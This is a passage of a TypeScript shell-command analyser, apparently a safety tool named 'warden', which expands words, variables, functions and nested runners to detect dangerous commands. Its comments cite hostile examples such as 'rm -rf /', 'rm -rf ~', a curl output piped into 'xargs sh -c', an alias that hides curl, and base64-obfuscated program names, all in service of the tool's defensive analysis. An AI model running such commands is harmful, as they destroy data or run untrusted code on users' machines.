 * characters would be split or expanded by the shell, so it stays unknown unless `split` says the
 * caller splits the word itself.
 */
function resolveWord(word: string, state: State, home: string, outputs?: readonly (string | undefined)[], split = false): string {
  const subOut = outputs !== undefined && outputs.length > 0 ? outputs : undefined;
  let w = restoreQuoted(word);
  // An earlier `HOME=…` or `PWD=…` in the same command line wins, as in the shell.
  const homeNow = state.vars.get('HOME') ?? home;
  const pwdNow = state.vars.get('PWD') ?? state.cwd;
  if (w === '~' || w.startsWith('~/')) w = homeNow + w.slice(1);
  else if (w.startsWith('~')) {
    // `~+` is $PWD; `~user` and `~-` (OLDPWD) are someone's home or an earlier directory: unknown.
    const slash = w.indexOf('/');
    const head = slash === -1 ? w : w.slice(0, slash);
    const rest = slash === -1 ? '' : w.slice(slash);
    if (head === '~+') w = pwdNow + rest;
    else if (/^~[A-Za-z0-9._-]*$/.test(head)) w = UNKNOWN + rest;
  }
  if (w.includes(SUB_MARK) && subOut === undefined) w = w.replace(SUB_RE, UNKNOWN);
  else if (w.includes(SUB_MARK)) {
    w = w.replace(SUB_INDEX_RE, (_m, k: string) => {
      const o = subOut?.[Number(k)];
      return o !== undefined && (split || !/[\s*?[\]]/.test(o)) ? o : UNKNOWN;
    });
  }
  if (w.includes(VAR_MARK)) {
    w = w.replace(VAR_RE, (m: string, key: string, at: number, whole: string) => {
      if (key === '') return ''; // `$"…"` (a locale string) or a lone `$`
      const name = NAME_RE.exec(key)?.[0];
      if (name === undefined || name !== key) {
        const args = state.args;
        // Positional parameters, inside a function body (or after `set --`).
        if (args !== undefined && /^\d+$/.test(key)) return key === '0' ? UNKNOWN : (args[Number(key) - 1] ?? '');
        if (args !== undefined && key === '#') return String(args.length);
        if (args !== undefined && (key === '@' || key === '*')) return args.join(' ');
        // `${TMPDIR:-/tmp}`: the temp directory whether TMPDIR is set or not.
        if (TMPDIR_DEFAULT.test(key) && !state.vars.has('TMPDIR')) return TEMP;
        return UNKNOWN; // ${X:-y}, $1, $@ …: not resolved
      }
      if (name === 'HOME') return homeNow;
      if (name === 'PWD') return pwdNow;
      const v = state.vars.get(name);
      if (v !== undefined) return v;
      // An unset TMPDIR is the temp directory where a command line uses it for an entry in it.
      return name === 'TMPDIR' ? tmpdirValue(whole.slice(at + m.length)) : UNKNOWN;
    });
  }
  return w;
}

const ASSIGN = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s;
const NAME_RE = /^[A-Za-z_][A-Za-z0-9_]*/;

/** Words one command may grow to through brace expansion, and the longest word expanded. */
const MAX_BRACE_WORDS = 1024;
const MAX_BRACE_LENGTH = 4096;

/**
 * Brace expansion, which bash does before any other: `~/{a,.}` → `~/a ~/.`, `{rm,-rf,/}` →
 * `rm -rf /`, `x{1..3}`. Quoted and escaped braces and commas were marked by scan and stay. A word that would grow past MAX_BRACE_WORDS, or is longer
 * than MAX_BRACE_LENGTH, stands for words not enumerated here: it is unknown.
 */
function expandBraces(words: string[]): string[] {
  const out: string[] = [];
  for (const w of words) {
    if (!w.includes('{')) out.push(w);
    else out.push(...((w.length <= MAX_BRACE_LENGTH ? braceWord(w, MAX_BRACE_WORDS - out.length) : undefined) ?? [UNKNOWN]));
  }
  return out;
}

/** One word's brace expansion, or undefined if it would exceed `room` words. */
function braceWord(w: string, room: number): string[] | undefined {
  if (room <= 0) return undefined;
  // One pass pairs the braces; the first pair (by its `{`) holding a top-level comma or a `..`
  // sequence is expanded, and the results expanded again for the pairs after it.
  const stack: { open: number; commas: number[] }[] = [];
  let pick: { open: number; close: number; parts: string[] } | undefined;
  for (let j = 0; j < w.length; j++) {
    const c = w[j];
    if (c === '\\') j++;
    else if (c === '{') stack.push({ open: j, commas: [] });
    else if (c === ',') stack[stack.length - 1]?.commas.push(j);
    else if (c === '}') {
      const top = stack.pop();
      if (top === undefined || (pick !== undefined && pick.open < top.open)) continue;
      let parts: string[] | undefined | null;
      if (top.commas.length > 0) {
        parts = [];
        let from = top.open + 1;
        for (const k of [...top.commas, j]) {
          parts.push(w.slice(from, k));
          from = k + 1;
        }
      } else {
        parts = braceSequence(w.slice(top.open + 1, j), room);
        if (parts === null) return undefined;
      }
      if (parts !== undefined) pick = { open: top.open, close: j, parts };
    }
  }
  if (pick === undefined) return [w];
  const head = w.slice(0, pick.open);
  const tail = w.slice(pick.close + 1);
  const out: string[] = [];
  for (const part of pick.parts) {
    const more = braceWord(`${head}${part}${tail}`, room - out.length);
    if (more === undefined) return undefined;
    out.push(...more);
  }
  return out;
}

/** `{1..5}`, `{a..e}`, `{0..10..2}`: the items; undefined if not a sequence; null if too long. */
function braceSequence(inner: string, room: number): string[] | undefined | null {
  const m = /^(-?\d+|[A-Za-z])\.\.(-?\d+|[A-Za-z])(?:\.\.(-?\d+))?$/.exec(inner);
  if (!m) return undefined;
  const [, from = '', to = '', stepText] = m;
  const numeric = /\d/.test(from) && /\d/.test(to);
  if (!numeric && (/\d/.test(from) || /\d/.test(to))) return undefined;
  const a = numeric ? Number(from) : from.charCodeAt(0);
  const z = numeric ? Number(to) : to.charCodeAt(0);
  const step = Math.abs(Number(stepText ?? 1)) || 1;
  if (Math.abs(z - a) / step + 1 > room) return null;
  const out: string[] = [];
  for (let v = a; a <= z ? v <= z : v >= z; v += a <= z ? step : -step) out.push(numeric ? String(v) : String.fromCharCode(v));
  return out;
}

/** Offsets of each `MARK…MARK` pair in a word. */
function markerSpans(w: string, mark: string): [number, number][] {
  const spans: [number, number][] = [];
  let i = w.indexOf(mark);
  while (i !== -1) {
    const j = w.indexOf(mark, i + 1);
    if (j === -1) break;
    spans.push([i, j]);
    i = w.indexOf(mark, j + 1);
  }
  return spans;
}

/** The commands whose output ends up in these raw words: their substitutions, and variables set from some. */
function wordProducers(words: readonly string[], state: State, local: Local): SimpleCommand[] {
  const out: SimpleCommand[] = [];
  if (local.subCmds.length === 0 && state.origins.size === 0) return out;
  for (const w of words) {
    for (const [open, close] of markerSpans(w, SUB_MARK)) out.push(...(local.subCmds[Number(w.slice(open + 1, close))] ?? []));
    if (state.origins.size > 0) for (const [open, close] of markerSpans(w, VAR_MARK)) out.push(...(state.origins.get(w.slice(open + 1, close)) ?? []));
  }
  return out;
}

/**
 * Builds one simple command (after unwrapping) and recurses into what it runs. Returns it.
 * `rawExtra`: its raw redirection targets and heredoc bodies; `upstream`: the pipeline stage it reads.
 */
function emit(
  rawWords: string[],
  redirects: Redirect[],
  stdin: Stdin | undefined,
  state: State,
  b: Budget,
  local: Local,
  rawExtra: readonly string[],
  upstream: SimpleCommand | undefined,
): SimpleCommand | undefined {
  const { via, depth } = local;
  let words = rawWords;
  while (words.length > 0 && KEYWORDS.has(words[0] as string)) words = words.slice(1);
  // `coproc cmd`, `coproc NAME { …; }`: the command (or group) runs, in the background.
  if (words[0] === 'coproc') {
    words = words.slice(1);
    if (/^[A-Za-z_]\w*$/.test(words[0] ?? '') && (words[1] === '{' || (words[1] ?? '').startsWith('('))) words = words.slice(1);
    while (words.length > 0 && KEYWORDS.has(words[0] as string)) words = words.slice(1);
  }
  // Its substitutions run first, in this shell's state (redirection targets already ran theirs).
  const lastK = local.subs.length === 0 ? -1 : lastSubOf(words);
  if (lastK !== -1) runSubs(local, lastK, state, b);
  // Leading assignments: persist for later commands only when nothing else is on the line.
  let i = 0;
  const prefix: [string, string, string][] = [];
  while (i < words.length) {
    const m = ASSIGN.exec(words[i] as string);
    if (!m) break;
    prefix.push([m[1] as string, resolveWord(m[2] as string, state, b.home, local.subOut), m[2] as string]);
    i++;
  }
  words = words.slice(i);
  if (words.length === 0) {
    for (const [k, v, raw] of prefix) {
      setVar(state, k, v);
      const from = wordProducers([raw], state, local);
      if (from.length > 0) state.origins.set(k, from);
      else state.origins.delete(k);
    }
    if (redirects.length > 0) record(b, { argv: [], program: '', text: redirectText(redirects), cwd: state.cwd, via, depth, redirects, assignments: NO_ASSIGNMENTS, ...(stdin ? { stdin } : {}) });
    return undefined;
  }
  const shellCwd = state.cwd;
  const chain = [...via];
  const resolved = resolveWords(expandBraces(words), state, b.home, local.subOut);
  // `CMD="rm -rf /"; $CMD`, `$(echo rm -rf /)`: an unquoted expansion in the program's place is
  // split into words. (Quoted, it would name one program with blanks in its name, which cannot run:
  // splitting it only costs a false alarm.)
  const head = resolved[0] as string;
  if (PURE_EXPANSION.test(words[0] as string) && /\s/.test(head.trim())) resolved.splice(0, 1, ...head.trim().split(/\s+/));
  else if (/\s/.test(head) && (words[0] as string).includes(SUB_MARK)) resolved[0] = resolveWord(words[0] as string, state, b.home, local.subOut);
  const env: Env = { assigned: [], cleared: false, unset: [] };
  const disguised: DisguisedWord[] = [];
  const { argv, cwd } = unwrap(resolved, state.cwd, chain, b, depth, env, disguised);
  // Options in disguise (`-\u200brf`, `－rf`) are read as the options they look like.
  for (let k = 1; k < argv.length; k++) {
    const d = disguisedFlag(argv[k] as string);
    if (d === undefined) continue;
    disguised.push({ ...d, program: false });
    argv[k] = d.as;
  }
  const program = programName(argv[0] ?? '');
  const assignments = assignmentsOf(state, prefix, env);
  const cmd: SimpleCommand = { argv, program, text: commandText(argv, redirects), cwd, via: chain, depth, redirects, assignments };
  if (stdin) cmd.stdin = stdin;
  if (assignments.size > 0) cmd.env = Object.fromEntries(assignments);
  if (env.cleared) cmd.clearedEnv = true;
  if (disguised.length > 0) cmd.disguised = disguised;
  const fromWords = local.subCmds.length === 0 && state.origins.size === 0 ? [] : wordProducers(words, state, local);
  if (rawExtra.length > 0) fromWords.push(...wordProducers(rawExtra, state, local));
  // `curl … | xargs sh -c`: xargs puts what it reads into the words.
  if (upstream !== undefined && chain.length > via.length && chain.slice(via.length).includes('xargs')) fromWords.push(upstream);
  if (local.origin !== undefined) fromWords.push(local.origin);
  const inputs = upstream === undefined ? fromWords : [upstream, ...fromWords];
  if (inputs.length > 0) b.inputs.set(cmd, inputs);
  record(b, cmd);
  afterCommand(cmd, state, b);
  const programFrom = (words[0] as string).includes(SUB_MARK) || (words[0] as string).includes(VAR_MARK) ? wordProducers([words[0] as string], state, local) : NONE;
  recurse(cmd, state, b, { words: fromWords, upstream, program: programFrom });
  if (state.functions.size > 0) callFunctions(cmd, state, b);
  // `GIT_SSH_COMMAND='…' git fetch`, `env PAGER='…' man x`: variables programs run as shell commands.
  if (prefix.length > 0 || env.assigned.length > 0) {
    for (const [k, v] of [...prefix.map(([n, value]): [string, string] => [n, value]), ...env.assigned]) {
      if (!COMMAND_VARS.has(k) || v.trim() === '') continue;
      b.trace.push({ kind: 'unwrap', depth: depth + 1, wrapper: k, text: clip(v) });
      walk(v, fork(state, cwd), [...chain, k], depth + 1, b);
    }
  }
  if (redirects.length > 0 || WRITERS.has(cmd.program)) {
    for (const w of writtenPaths(cmd, shellCwd)) b.written.set(w.path, { cmd, ...(w.text !== undefined ? { text: w.text } : {}) });
  }
  if (!READ_ONLY.has(cmd.program) || redirects.some((r) => r.op.includes('>'))) b.writers.push(cmd.program);
  // `$X git push -f origin main`, `"$X" rm -rf ~`, `$(pick) bash -c …`: a program word that is
  // wholly unknown may expand to nothing or to a wrapper (`sudo`, `env`), and then what follows is
  // the command. It is judged as one too when it reads as a program: a bare name, or one in a
  // system binary directory. (`$EDITOR ~/.bashrc`, `$PAGER ./notes` name files to open.)
  if (words.length > 1 && ONLY_UNKNOWN.test(head) && argv.length > 1 && READS_AS_PROGRAM.test(argv[1] as string)) {
    b.trace.push({ kind: 'unwrap', depth, wrapper: 'unknown program', text: clip(words.slice(1).map(display).join(' ')) });
    emit(words.slice(1), redirects, stdin, state, b, { ...local, via: [...via, '(unknown program)'] }, rawExtra, upstream);
  }
  return cmd;
}

/** What `env`/`sudo` wrappers do to the environment: assignments, `-i`, `-u NAME`. */
interface Env {
  assigned: [string, string][];
  cleared: boolean;
  unset: string[];
}

/** SimpleCommand.assignments: earlier assignments (unless `env -i`), the prefix, then the wrappers'. */
function assignmentsOf(state: State, prefix: readonly [string, string, string][], env: Env): Assignments {
  if ((state.vars.size === 0 || env.cleared) && prefix.length === 0 && env.assigned.length === 0) return NO_ASSIGNMENTS;
  const m = new Map<string, string>(env.cleared ? [] : state.vars);
  for (const [k, v] of prefix) m.set(k, v);
  for (const k of env.unset) m.delete(k);
  for (const [k, v] of env.assigned) m.set(k, v);
  return m.size === 0 ? NO_ASSIGNMENTS : m;
}

/**
 * Words resolved; inside a function body, a word that is only `$@` or `$*` becomes the
 * arguments, one word each (`rm -rf "$@"`).
 */
function resolveWords(words: readonly string[], state: State, home: string, subOut: readonly (string | undefined)[]): string[] {
  const out: string[] = [];
  for (const [k, w] of words.entries()) {
    if (state.args !== undefined && (w === ALL_ARGS || w === ALL_ARGS_STAR)) out.push(...state.args);
    else out.push(resolveWord(w, state, home, subOut, k === 0));
  }
  return out;
}
const ALL_ARGS = `${VAR_MARK}@${VAR_MARK}`;
const ALL_ARGS_STAR = `${VAR_MARK}*${VAR_MARK}`;

/**
 * A call of a function defined earlier in the command line runs its body (each body, when a
 * definition may not have run), with the call's arguments. A program warden cannot name may be any
 * of them: each runs with unknown arguments. A function calling itself runs once more with unknown
 * arguments, then no more.
 */
function callFunctions(cmd: SimpleCommand, state: State, b: Budget): void {
  const name = cmd.argv[0] ?? '';
  if (isDynamic(name)) {
    for (const defs of state.functions.values()) for (const def of defs) runBody(def, undefined, cmd, state, b);
    return;
  }
  const defs = state.functions.get(name);
  if (defs === undefined) return;
  // A word that is wholly unknown may be any number of words (`f $X`, `f "$@"`): then so are $2, $#….
  const args = cmd.argv.slice(1);
  for (const def of defs) runBody(def, args.includes(UNKNOWN) ? undefined : args, cmd, state, b);
}

function runBody(def: FnDef, args: string[] | undefined, cmd: SimpleCommand, state: State, b: Budget): void {
  let given = args;
  if (b.calls.some((c) => c.def === def)) {
    if (given === undefined || b.calls.some((c) => c.def === def && c.unknown)) return;
    given = undefined;
  }
  const depth = cmd.depth + 1;
  if (depth > LIMITS.maxDepth) {
    bound(b, 'nesting depth', LIMITS.maxDepth);
    return;
  }
  b.work += def.text.length;
  if (b.work > LIMITS.maxWork) {
    bound(b, 'too much text to analyse', LIMITS.maxWork);
    return;
  }
  const label = `${def.name}()`;
  b.trace.push({ kind: 'unwrap', depth, wrapper: label, text: clip(given === undefined ? `(unknown arguments) ${def.text}` : def.text) });
  // A `{ …; }` body runs in this shell: its `cd` and assignments stay, but for its `local` ones.
  const st = def.subshell ? fork(state) : state;
  const saved = { args: st.args, locals: st.locals };
  if (given === undefined) delete st.args;
  else st.args = given;
  st.locals = new Map();
  b.calls.push({ def, unknown: given === undefined });
  const local: Local = { scanned: def.scanned, subs: def.subs, next: 0, subCmds: [], subOut: [], via: [...cmd.via, label], depth, ...(def.origin ? { origin: def.origin } : {}) };
  run(def.tokens, local, st, b);
  runSubs(local, Infinity, st, b);
  b.calls.pop();
  for (const [k, old] of st.locals) {
    if (old === undefined) st.vars.delete(k);
    else st.vars.set(k, old);
  }
  if (saved.args === undefined) delete st.args;
  else st.args = saved.args;
  if (saved.locals === undefined) delete st.locals;
  else st.locals = saved.locals;
}

/** Programs that create no files (without a redirection): a missing script cannot appear after them. */
const READ_ONLY = new Set([
  'cd', 'pushd', 'popd', 'set', 'export', 'unset', 'true', 'false', ':', 'shopt', 'test', '[', '[[', 'echo', 'printf', 'pwd', 'ls', 'cat', 'grep', 'egrep', 'fgrep', 'rg',
  'which', 'type', 'command', 'hash', 'alias', 'sleep', 'date', 'whoami', 'id', 'uname', 'env', 'printenv', 'read', 'wait', 'jobs', 'exit', 'return', 'source', '.', 'chmod',
  'head', 'tail', 'wc', 'sort', 'uniq', 'less', 'more', 'file', 'stat', 'local', 'declare', 'typeset', 'readonly', 'umask', 'ulimit', 'trap', 'nvm', 'deactivate',
]);

/** Environment variables whose value a program runs as a shell command. */
const COMMAND_VARS = new Set([
  'GIT_SSH_COMMAND', 'GIT_EDITOR', 'GIT_SEQUENCE_EDITOR', 'GIT_PAGER', 'GIT_EXTERNAL_DIFF', 'GIT_PROXY_COMMAND', 'GIT_ASKPASS', 'SSH_ASKPASS', 'SUDO_ASKPASS',
  'EDITOR', 'VISUAL', 'PAGER', 'MANPAGER', 'LESSOPEN', 'LESSCLOSE', 'PROMPT_COMMAND', 'FZF_DEFAULT_COMMAND', 'RSYNC_RSH', 'CVS_RSH',
]);

/** Stdin of the next stage of a pipeline: what `cmd` writes, when its output is literal text. */
function pipeSource(cmd: SimpleCommand | undefined): Stdin {
  if (cmd === undefined) return { kind: 'pipe', from: '' };
  const text = literalOutput(cmd);
  return text === undefined ? { kind: 'pipe', from: cmd.program } : { kind: 'pipe', from: cmd.program, text };
}

function record(b: Budget, cmd: SimpleCommand): void {
  b.commands++;
  b.out.push(cmd);
  b.trace.push({ kind: 'command', depth: cmd.depth, text: cmd.text, program: cmd.program, argv: cmd.argv.map(display), via: cmd.via, cwd: display(cmd.cwd) });
}

/**
 * The program's name as rules know it: the basename, lower-cased and without `.exe` (macOS and
 * Windows file systems ignore case, so `RM` runs rm; Git Bash and WSL run `git.exe`).
 */
export function programName(word: string): string {
  if (isDynamic(word)) return word === UNKNOWN ? UNKNOWN : path.posix.basename(word);
  const base = word.includes('/') ? path.posix.basename(word) : word;
  return /[A-Z]/.test(base) || /\.exe$/i.test(base) ? base.toLowerCase().replace(/\.exe$/, '') : base;
}

/** Words shell-quote's `quote` leaves as they are. */
const PLAIN_WORD = /^[\w./%+-]+$/;

function commandText(argv: string[], redirects: Redirect[]): string {
  let plain = true;
  for (const w of argv) plain &&= PLAIN_WORD.test(w);
  const words = plain ? argv.join(' ') : shellQuote(argv.map(display));
  return redirects.length > 0 ? `${words} ${redirectText(redirects)}` : words;
}

function redirectText(redirects: Redirect[]): string {
  return redirects.map((r) => `${r.op} ${display(r.target)}`).join(' ');
}

/** Side effects on the analysis state: `cd`, `export X=…`. */
function afterCommand(cmd: SimpleCommand, state: State, b: Budget): void {
  const [prog = '', ...args] = cmd.argv;
  switch (prog) {
    case 'cd':
    case 'pushd': {
      const target = args.find((a) => !a.startsWith('-') || a === '-');
      const before = state.cwd;
      if (target === undefined) setCwd(state, prog === 'pushd' ? UNKNOWN : (state.vars.get('HOME') ?? b.home));
      else if (target === '-' || isDynamic(target) || (isDynamic(state.cwd) && !target.startsWith('/'))) setCwd(state, UNKNOWN);
      else setCwd(state, path.posix.resolve(state.cwd, target));
      if (prog === 'pushd') state.dirs = [...(state.dirs ?? []), before];
      state.vars.delete('PWD'); // cd sets $PWD to the new directory
      return;
    }
    case 'popd':
      // Back to the directory the matching pushd left, if this command line ran it.
      setCwd(state, state.dirs?.[state.dirs.length - 1] ?? UNKNOWN);
      state.dirs = state.dirs?.slice(0, -1) ?? [];
      state.vars.delete('PWD');
      return;
    case 'export':
    case 'declare':
    case 'local':
    case 'readonly':
    case 'typeset': {
      const flags = args.filter((a) => /^[-+][a-zA-Z]+$/.test(a)).join('');
      // `export -f f`: the function goes to every child shell, to be called with arguments unknown here.
      if ((prog === 'export' || prog === 'declare' || prog === 'typeset') && /^-[a-zA-Z]*f/.test(flags) && (prog === 'export' || flags.includes('x'))) {
        for (const a of args) for (const def of a.startsWith('-') ? [] : (state.functions.get(a) ?? [])) runBody(def, undefined, cmd, state, b);
        return;
      }
      // In a function body `local` (and `declare` without -g) variables end with the call.
      const scoped = state.locals !== undefined && (prog === 'local' || ((prog === 'declare' || prog === 'typeset') && !flags.includes('g')));
      for (const a of args) {
        if (a.startsWith('-') || a.startsWith('+')) continue;
        const m = ASSIGN.exec(a);
        const name = m ? (m[1] as string) : NAME_RE.exec(a)?.[0] === a ? a : undefined;
        if (name === undefined) continue;
        if (scoped && !state.locals?.has(name)) state.locals?.set(name, state.vars.get(name));
        if (m) setVar(state, name, m[2] as string);
        else if (scoped) setVar(state, name, '');
      }
      return;
    }
    case 'unset': {
      const fn = args.some((a) => /^-[a-zA-Z]*f/.test(a));
      for (const a of args) {
        if (a.startsWith('-') || isDynamic(a)) continue;
        // A function is forgotten only by an unset that surely runs; a variable is empty either way.
        if (fn) {
          if (state.cond === 0 && state.functions.has(a)) {
            const fns = new Map(state.functions);
            fns.delete(a);
            state.functions = fns;
          }
        } else {
          setVar(state, a, '');
        }
      }
      return;
    }
    case 'set': {
      // `set -- a b`: the positional parameters.
      const dash = args.indexOf('--');
      const words = dash !== -1 ? args.slice(dash + 1) : args.length > 0 && !/^[-+]/.test(args[0] as string) ? args : undefined;
      if (words !== undefined) state.args = words;
      return;
    }
    case 'shift': {
      const n = args[0] === undefined ? 1 : Number(args[0]);
      if (state.args !== undefined) state.args = Number.isInteger(n) && n >= 0 ? state.args.slice(n) : [];
      return;
    }
    default: {
      // Builtins that give variables values warden cannot know: `read X`, `mapfile A`, `printf -v X`, `for X in …`.
      const names = readTargets(prog, args);
      for (const n of names) setVar(state, n, UNKNOWN);
    }
  }
}

const READ_VALUE = new Set(['-a', '-d', '-i', '-n', '-N', '-p', '-t', '-u']);

/** The words that are variable names. */
function names(xs: readonly (string | undefined)[]): string[] {
  return xs.filter((x): x is string => x !== undefined && NAME_RE.exec(x)?.[0] === x);
}
const MAPFILE_VALUE = new Set(['-d', '-n', '-O', '-s', '-u', '-C', '-c']);

/** The variables a builtin sets to values warden cannot know. */
function readTargets(prog: string, args: readonly string[]): string[] {
  switch (prog) {
    case 'read': {
      const out: (string | undefined)[] = [];
      let i = 0;
      for (; i < args.length; i++) {
        const a = args[i] as string;
        if (a === '--') {
          i++;
          break;
        }
        if (!a.startsWith('-') || a === '-') break;
        const last = `-${a.slice(-1)}`;
        if (READ_VALUE.has(last)) {
          if (last === '-a') out.push(args[i + 1]);
          i++;
        }
      }
      const rest = args.slice(i);
      return names([...out, ...(rest.length === 0 && out.length === 0 ? ['REPLY'] : rest)]);
    }
    case 'mapfile':
    case 'readarray': {
      const ops: string[] = [];
      for (let i = 0; i < args.length; i++) {
        const a = args[i] as string;
        if (MAPFILE_VALUE.has(a)) i++;
        else if (!a.startsWith('-')) ops.push(a);
      }
      return names([ops[ops.length - 1] ?? 'MAPFILE']);
    }
    case 'printf': {
      const at = args.indexOf('-v');
      return at === -1 ? [] : names([args[at + 1]]);
    }
    case 'getopts':
      return names([args[1]]);
    case 'for':
    case 'select':
      return names([args[0]]);
    default:
      return [];
  }
}

const clip = (src: string): string => (src.length > 200 ? `${src.slice(0, 200)}…` : src);

/** Code that is nothing but unknown parts (`"$X"`, `"$(curl …)"`): warden cannot see any of it. */
function wholeUnknown(code: string): boolean {
  return code.includes(UNKNOWN) && ONLY_UNKNOWN.test(code);
}

/** `producers` in the order they ran, with what they read, transitively (bounded by maxCommands). */
function producersOf(direct: readonly SimpleCommand[], b: Budget): SimpleCommand[] {
  const seen = new Set<SimpleCommand>();
  const queue = [...direct];
  for (let i = 0; i < queue.length && seen.size < LIMITS.maxCommands; i++) {
    const c = queue[i] as SimpleCommand;
    if (seen.has(c)) continue;
    seen.add(c);
    queue.push(...(b.inputs.get(c) ?? []));
  }
  if (seen.size < 2) return [...seen];
  const pos = new Map(b.out.map((c, i) => [c, i]));
  return [...seen].sort((x, y) => (pos.get(x) ?? 0) - (pos.get(y) ?? 0));
}

/** Records on `cmd` the code it runs; unknown code is also a trace step, so `explain` shows it. */
function setRuns(
  cmd: SimpleCommand,
  b: Budget,
  r: { kind: Runs['kind']; how: CodeHow; source?: string; file?: string; inline?: Runs['inline']; missing?: Runs['missing'] },
  direct: readonly SimpleCommand[],
): void {
  const producers = producersOf(direct, b);
  const made = producers.map((p) => p.text).join(' | ');
  const source = r.source ?? (made !== '' ? clip(made) : '?');
  cmd.runs = { kind: r.kind, how: r.how, source, producers, ...(r.file !== undefined ? { file: r.file } : {}), ...(r.inline ? { inline: r.inline } : {}), ...(r.missing ? { missing: r.missing } : {}) };
  if (r.kind === 'unknown-code') b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: display(cmd.program), text: `runs code warden cannot read (${r.how}): ${display(source)}` });
}

/** Programs `recurse` looks into, besides shells, interpreters, paths and unknown names. */
const RUNNERS = new Set(['eval', 'source', '.', 'trap', 'mapfile', 'readarray', 'alias', 'su', 'runuser', 'find', 'ssh', 'kubectl', 'oc', 'watch', 'parallel', ...DOCKERS]);
const NONE: SimpleCommand[] = [];

/** Commands that run other commands: shells, eval, source, interpreters, remote and container runners, scripts. */
function recurse(cmd: SimpleCommand, state: State, b: Budget, from: Inputs): void {
  const prog = cmd.argv[0];
  if (prog === undefined) return;
  const name = cmd.program;
  // Most commands run nothing else: leave before building anything.
  if (!SHELLS.has(name) && !RUNNERS.has(name) && !prog.includes('/') && !isDynamic(prog) && from.program.length === 0 && !isInterpreter(name)) return;
  const args = cmd.argv.slice(1);
  const inner = (src: string, label: string, opts: { cwd?: string; fresh?: boolean; computed?: boolean; same?: boolean } = {}): void => {
    b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: clip(src) });
    const cwd = opts.cwd ?? cmd.cwd;
    // `eval` runs in this shell (`eval X=/` sets X here); another shell starts with no arguments.
    let st: State;
    if (opts.same === true) st = state;
    else if (opts.fresh === true) st = freshState(cwd, state);
    else {
      st = fork(state, cwd);
      delete st.args;
    }
    walk(src, st, [...cmd.via, label], cmd.depth + 1, b, opts.computed === true ? cmd : undefined);
  };
  const stdinInputs = from.upstream === undefined ? from.words : [from.upstream, ...from.words];
  /** `sh -c CODE`, `eval CODE`: the code is an argument, known or not. */
  const codeArgument = (code: string, label: string, same = false): void => {
    if (code.trim() === '') return;
    const unknown = wholeUnknown(code);
    setRuns(cmd, b, { kind: unknown ? 'unknown-code' : 'known-code', how: 'argument', ...(unknown ? {} : { source: label }) }, from.words);
    inner(code, label, { same });
  };
  // `$SHELL -c '…'`, `"$(which bash)" -c '…'`: a program warden cannot name, given a command string
  // the way a shell is, is read as a shell (a non-shell reading `-c` code only costs a false alarm).
  if (SHELLS.has(name) || (isDynamic(name) && shellCommandArg(args) !== undefined)) {
    // `bash -n`: read and check the syntax, run nothing.
    if (noExec(args)) return;
    const c = shellCommandArg(args);
    if (c !== undefined) {
      codeArgument(c, `${display(name)} -c`);
      return;
    }
    const script = shellScriptArg(args);
    if (script !== undefined) runScript(cmd, script, 'run', state, b, from);
    else shellStdin(cmd, name, state, b, from, inner, stdinInputs);
    return;
  }
  if (name === 'eval') {
    codeArgument(args.join(' '), 'eval', true);
    return;
  }
  if (name === 'trap') {
    // `trap 'cmd' EXIT`: the command runs later, in this shell (again at the end: see analyze).
    const code = args[0];
    if (code !== undefined && code !== '-' && !code.startsWith('-') && args.length > 1) {
      // Another signal's trap may run right away, with the values of now.
      if (!args.slice(1).every((s) => /^(0|EXIT|SIGEXIT)$/i.test(s))) inner(code, 'trap');
      b.traps.push({ code, state, vars: new Map(state.vars), cwd: state.cwd, via: cmd.via, depth: cmd.depth + 1 });
    }
    return;
  }
  if (name === 'mapfile' || name === 'readarray') {
    // `mapfile -C 'cmd' -c 1 < f`: the callback runs as a command for every so many lines read.
    for (let i = 0; i < args.length; i++) {
      const a = args[i] as string;
      const code = a === '-C' ? args[i + 1] : a.startsWith('-C') ? a.slice(2) : undefined;
      if (code !== undefined) codeArgument(code, `${name} -C`, true);
    }
    return;
  }
  if (name === 'alias') {
    // `alias ls='curl …; ls'`: every later use of the name runs the value. It is analysed here, once.
    for (const a of args) {
      const m = /^([^=\s]+)=(.*)$/s.exec(a);
      if (m && (m[2] as string).trim() !== '') inner(m[2] as string, `alias ${m[1] as string}`);
    }
    return;
  }
  if (name === 'source' || name === '.') {
    if (args[0] !== undefined) runScript(cmd, args[0], 'source', state, b, from);
    return;
  }
  if (isInterpreter(name)) {
    interpreter(cmd, state, b, from, inner, stdinInputs);
    return;
  }
  if (name === 'su' || name === 'runuser') {
    // `su [user] -c 'cmd'`: the command runs in the user's shell; `runuser -u user cmd…` directly.
    const c = suCommand(args);
    if (c !== undefined) inner(c, `${name} -c`);
    else if (name === 'runuser') runInner(runuserCommand(args), inner);
    return;
  }
  if (name === 'find') {
    // `find root … -exec cmd {} ;`: cmd runs once per match, `{}` a path under root warden cannot
    // know. The words are already resolved, so they go back in quoted.
    for (const run of findExecs(args)) inner(shellQuote(run.argv), `find ${run.action}`);
    return;
  }
  if (name === 'ssh') {
    // The remote command runs in the remote user's shell, in a directory unknown here.
    runInner(sshCommand(args), inner, true);
    return;
  }
  if (DOCKERS.has(name)) {
    runInner(dockerCommand(name, args), inner, true);
    return;
  }
  if (name === 'kubectl' || name === 'oc') {
    runInner(kubectlCommand(name, args), inner, true);
    return;
  }
  if (name === 'watch') {
    runInner(watchCommand(args), inner);
    return;
  }
  if (name === 'parallel') {
    const p = parallelCommands(args);
    if (p === undefined) return;
    // No command: every input line is one (`parallel < jobs.txt`, `echo … | parallel`).
    if (p.fromStdin) shellStdin(cmd, name, state, b, from, inner, stdinInputs);
    for (const t of p.texts) {
      // `parallel :::: jobs.txt`: commands read from a file.
      if (wholeUnknown(t)) setRuns(cmd, b, { kind: 'unknown-code', how: 'argument', source: 'its input' }, from.words);
      else inner(t, p.label);
    }
    return;
  }
  // `./x.sh`, `/abs/x.sh`, `dir/x`: a script run by path is read and analysed.
  if (prog.includes('/') && !isDynamic(prog)) {
    runScript(cmd, prog, 'exec', state, b, from);
    return;
  }
  // `$(curl …)`, `$(echo Y3VybA== | base64 -d) …`: the program word is another command's output.
  if (from.program.length > 0) setRuns(cmd, b, { kind: isDynamic(prog) ? 'unknown-code' : 'known-code', how: 'program' }, from.program);
}

/** Walks what a runner (ssh, docker, kubectl, watch, runuser) hands on, if anything. */
function runInner(r: Inner | undefined, inner: (src: string, label: string, opts?: { cwd?: string; fresh?: boolean }) => void, fresh = false): void {
  if (r === undefined) return;
  const src = r.text ?? shellQuote(r.argv ?? []);
